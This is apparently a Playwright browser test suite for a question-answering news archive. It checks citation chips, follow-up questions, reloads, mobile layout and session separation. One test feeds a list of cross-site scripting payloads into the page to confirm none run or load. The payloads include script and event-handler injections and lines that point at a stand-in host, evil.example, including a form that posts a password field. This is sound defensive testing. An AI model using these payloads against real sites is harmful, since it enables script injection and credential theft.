"""The page in a real browser: ask, click a chip, see the words; nothing foreign runs or loads."""

import gzip
import json
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from rag.settings import Settings
from tests.browsing import STRAYS, Served, answered, ask, fits, in_view, open_page
from tests.canned import ARTICLES, COST
from tests.fake_desk import FakeDesk
from web.desk import Desk

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
ROOT = Path(__file__).resolve().parents[1]
SHARED = Path(__file__).resolve().parents[2] / "shared"
QUESTION = "What will the bridge repair cost?"
DONE = "#current .byline-turn[data-state=done]"
ATTACKS = (
    "<img src=x onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    '"><svg onload=window.hacked=1>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "![x](http://evil.example/a.png) <video poster=http://evil.example/b.png>",
    "<form action=http://evil.example><input name=password></form>",
    "<style>@import url(http://evil.example/c.css)</style>",
    "${window.hacked=1} {{window.hacked=1}}",
)


def test_the_hooks_are_there_from_the_start(browser: "Browser", served: Served) -> None:
    page = open_page(browser, served.url)

    for hook in ("#question textarea", "#ask", "#transcript", "#sources", "#conflicts"):
        assert page.query_selector(hook), hook
    page.get_by_role("tab", name="Library").click()
    page.wait_for_selector("#upload input[type=file]", state="attached")
    page.wait_for_selector("#library .byline-library")
    assert STRAYS[page] == []
    page.context.close()


def test_a_chip_opens_the_article_at_the_quoted_words(browser: "Browser", served: Served) -> None:
    page = open_page(browser, served.url)
    ask(page, QUESTION)

    assert page.locator("#current .byline-sentence .byline-cite").count() == 3
    assert page.locator("#current .byline-banner .byline-cite").count() == 2
    assert page.locator("#current .byline-verdict[data-label]").count() == 3
    assert page.locator("#sources .byline-source mark").first.inner_text() == COST.text
    assert page.locator("#conflicts").inner_text().count("million euros") == 2
    page.locator("#current .byline-cite").first.click()
    page.wait_for_selector('#article mark[data-marker="1"]')
    assert page.locator('#article mark[data-marker="1"]').inner_text() == COST.text
    assert in_view(page, '#article mark[data-marker="1"]')
    page.keyboard.press("Escape")
    assert not page.locator("#article mark").first.is_visible()
    assert page.evaluate("document.activeElement.matches('.byline-cite')")
    assert STRAYS[page] == []
    page.context.close()


def test_a_mark_far_down_is_scrolled_to(browser: "Browser", tmp_path: Path) -> None:
    padding = "Nothing of note happened that day in the town. " * 8
    text = "\n\n".join([padding] * 60 + [ARTICLES["a1"].text])
    article = replace(ARTICLES["a1"], text=text)
    server = Served(FakeDesk(tmp_path, {**ARTICLES, "a1": article}))
    try:
        page = open_page(browser, server.url)
        ask(page, QUESTION)
        start = text.index(COST.text)
        page.evaluate(
            "(marks) => { document.querySelector('#current .byline-cite').dataset.marks = marks; }",
            f"1-{start}-{start + len(COST.text)}",
        )
        page.locator("#current .byline-cite").first.click()
        page.wait_for_selector("#article mark")
        assert in_view(page, "#article mark")
        page.context.close()
    finally:
        server.stop()


def test_follow_ups_keep_earlier_answers_and_clear_forgets_them(
    browser: "Browser", served: Served
) -> None:
    page = open_page(browser, served.url)
    ask(page, QUESTION)
    page.fill("#question textarea", "Who painted it?")
    page.press("#question textarea", "Enter")
    page.wait_for_selector("#current .byline-abstention")

    assert page.locator("#transcript .byline-question:visible").all_inner_texts() == [
        QUESTION,
        "Who painted it?",
    ]
    assert page.locator("#sources .byline-source").count() == 0
    assert served.desk.asked[-1][1][0].content == QUESTION
    page.locator("#past .byline-cite").first.click()
    page.wait_for_selector("#article mark")
    page.keyboard.press("Escape")
    page.locator(".byline-new").click()
    page.wait_for_selector(".byline-hero")
    assert page.locator(".byline-turn:visible").count() == 0
    ask(page, "When will it close?")
    assert served.desk.asked[-1][1] == ()
    page.context.close()


def test_a_reload_keeps_the_conversation_and_another_tab_begins_anew(
    browser: "Browser", served: Served
) -> None:
    page = open_page(browser, served.url)
    ask(page, QUESTION)
    page.reload()
    page.wait_for_selector("#past .byline-cite")
    page.locator("#past .byline-cite").first.click()
    page.wait_for_selector("#article mark")
    page.keyboard.press("Escape")
    ask(page, "And when?")
    assert [t.role for t in served.desk.asked[-1][1]] == ["user", "assistant"]
    other = page.context.new_page()
    other.goto(served.url)
    other.wait_for_selector(".byline-hero")
    assert other.locator(".byline-turn").count() == 0
    page.context.close()


def test_an_answer_can_be_stopped(browser: "Browser", served: Served) -> None:
    page = open_page(browser, served.url)
    n_closed = served.desk.n_closed
    page.fill("#question textarea", "a slow one")
    page.click("#ask")
    page.wait_for_selector("#current [data-state=streaming] .byline-sentence")
    page.click("#stop")
    page.wait_for_selector("#current [data-state=stopped]")

    page.wait_for_timeout(2_000)
    assert served.desk.n_closed == n_closed + 1
    assert page.locator("#current [data-state=stopped]").count() == 1
    ask(page, QUESTION)
    page.context.close()


def test_examples_ask(browser: "Browser", served: Served) -> None:
    page = open_page(browser, served.url)
    page.locator(".byline-example").first.click()
    page.wait_for_selector(DONE, timeout=30_000)
    page.context.close()


@pytest.mark.parametrize("width", [390, 320])
def test_a_phone_needs_no_sideways_scrolling(
    browser: "Browser", served: Served, width: int
) -> None:
    page = open_page(browser, served.url, width, 844)
    ask(page, QUESTION)

    assert fits(page) and page.locator("#ask").is_visible()
    page.locator("#current .byline-cite").first.click()
    page.wait_for_selector("#article mark")
    assert fits(page) and in_view(page, "#article mark") and in_view(page, ".byline-close")
    page.click(".byline-close")
    page.get_by_role("tab", name="Library").click()
    page.wait_for_selector("#library .byline-library")
    assert fits(page)
    page.context.close()


def test_two_browsers_do_not_mix(browser: "Browser", served: Served) -> None:
    pages = [open_page(browser, served.url) for _ in range(2)]
    for n, page in enumerate(pages):
        page.fill("#question textarea", f"slow question of reader {n}")
        page.click("#ask")
    for n, page in enumerate(pages):
        page.wait_for_selector(DONE, timeout=30_000)
        assert page.locator(".byline-question:visible").all_inner_texts() == [
            f"slow question of reader {n}"
        ]
        page.context.close()


def _payloads() -> list[str]:
    path = SHARED / "data" / "xss_payloads.jsonl.gz"
    if not path.is_file():
        return []
    with gzip.open(path, "rt", encoding="utf-8") as lines:
        return [json.loads(line)["text"] for line in lines][::40]


def test_hostile_words_neither_run_nor_load(browser: "Browser", tmp_path: Path) -> None:
    words = [*ATTACKS, *_payloads()]
    flood = "\n".join(words)
    hostile = {
        k: replace(a, title=flood[:3_000], outlet=flood[:3_000], authors=(flood,), url=flood)
        for k, a in ARTICLES.items()
    }
    hostile |= {
        f"h{n}": replace(ARTICLES["a3"], article_id=f"h{n}", title=w, path=w, text=w + flood)
        for n, w in enumerate(words)
    }
    desk = FakeDesk(tmp_path, hostile)
    desk.kept.submit([*words, flood, f"feed:https://x.example/{flood}"])
    while job := desk.kept.take():
        desk.kept.fail(job.job_id, flood)
    desk.put(replace(hostile["a1"], revision=2, text=flood, content_hash="2", group_id="g"))
    desk.holdings.withdraw("a2", flood)
    server = Served(desk)
    try:
        page = open_page(browser, server.url)
        for attack in ATTACKS:
            page.fill("#question textarea", attack)
            page.click("#ask")
            answered(page, attack)
        page.get_by_role("tab", name="Library").click()
        page.wait_for_selector("#library .byline-library")
        page.locator("#library .byline-open").nth(4).click()
        page.wait_for_selector("#article .byline-body p")
        page.wait_for_selector("#queue .byline-job-reason")
        for view, hook in (("edit", "#edit-title"), ("history", ".byline-diff")):
            page.keyboard.press("Escape")
            page.evaluate(
                "(view) => Object.assign(document.querySelector('#library .byline-look').dataset,"
                " {view, article: 'a1'})",
                view,
            )
            page.locator("#library .byline-look").first.click()
            page.wait_for_selector(f"#article {hook}")
        page.keyboard.press("Escape")
        page.click("#library .byline-chip[data-only=withdrawn]")
        page.wait_for_selector("#library .byline-gone")
        page.wait_for_timeout(500)

        assert STRAYS[page] == [] and page.evaluate("window.hacked") is None
        for foreign in ("iframe", "form[action]", "video", "embed", "object", "img[src=x]"):
            assert page.locator(f".gradio-container {foreign}").count() == 0, foreign
        page.context.close()
    finally:
        server.stop()


def test_the_real_archive_answers_with_words_from_its_articles(
    browser: "Browser", tmp_path: Path
) -> None:
    with Desk.open(Settings(home=tmp_path / ".byline-demo"), create=True) as desk:
        desk.ingest([ROOT / "samples" / "articles"])
        server = Served(desk)
        try:
            page = open_page(browser, server.url)
            page.locator(".byline-example >> text=Did China approve").click()
            page.wait_for_selector(DONE, timeout=60_000)
            assert page.locator("#conflicts .byline-conflict").count() >= 1
            for chip in page.locator("#current .byline-cite").all():
                _check_chip(page, chip, desk)
            assert STRAYS[page] == []
            page.context.close()
        finally:
            server.stop()


def _check_chip(page: "Page", chip: "Locator", desk: Desk) -> None:
    """The panel shows the article whole, with the very words marked and in view."""
    marker = chip.get_attribute("data-marker")
    chip.click()
    page.wait_for_selector(f'#article mark[data-marker="{marker}"]')
    article = desk.article(chip.get_attribute("data-article") or "")
    marked = "".join(page.locator(f'#article mark[data-marker="{marker}"]').all_inner_texts())
    assert " ".join(marked.split()) in " ".join(article.text.split())
    assert in_view(page, f'#article mark[data-marker="{marker}"]')
    page.keyboard.press("Escape")
